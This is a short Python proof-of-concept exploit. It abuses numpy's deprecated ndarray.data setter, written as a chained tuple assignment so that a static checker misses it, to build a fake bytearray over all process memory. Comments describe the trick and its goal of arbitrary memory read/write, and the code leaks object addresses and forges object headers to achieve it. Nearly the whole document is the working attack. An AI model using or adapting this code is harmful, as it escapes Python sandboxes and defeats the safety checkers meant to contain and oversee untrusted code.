# source: numpy's deprecated ndarray.data setter (its own warning: "Assigning the 'data' attribute is an inherently unsafe operation"; https://numpy.org/doc/stable/reference/generated/numpy.ndarray.data.html); the fake-object idea of public memory-corruption escapes (https://smarttldr.pages.dev/en/topic/python-sandbox-escape-prevention/deep-dive); chained targets missed by static checkers: https://github.com/unslothai/unsloth/pull/9777
# family: ndarray.data assigned through a bare tuple target of a chained assignment (the check refuses x.data = ...): an object array over bytes the script wrote, i.e. any address taken as an object (fakeobj)
# goal: a fake bytearray (built in a __slots__ instance) over all of process memory: arbitrary memory read/write
import numpy as np


class Cell:
    __slots__ = ("s1", "s2", "s3", "s4", "s5", "s6", "s7")


def where(obj):
    return int(repr(obj).split(" at ")[1].rstrip(">"), 16)


cell = Cell()
pool = [Cell() for _ in range(64)]
big = max(pool + [cell], key=where)        # the highest address among them
cell.s1 = big                  # fake ob_refcnt: any non-zero word
cell.s2 = bytearray            # fake ob_type: the bytearray type itself
cell.s3 = big                  # fake ob_size: an address, a huge length
cell.s4 = big                  # fake ob_alloc
#                                s5..s7 unset: ob_bytes = NULL, ob_start = NULL, ob_exports = 0
fake_at = where(cell) + 16

holder = np.empty(1, dtype=object)
buf = bytearray(fake_at.to_bytes(8, "little"))
y = holder.data, = buf,      # the object array now reads its pointer from buf
mem = holder[0]                # a bytearray over all of memory, from address 0
print(type(mem).__name__, len(mem) > 2 ** 40)
target = where(cell)
print("bytes at an object's address, read through the fake bytearray:", list(mem[target:target + 16]))
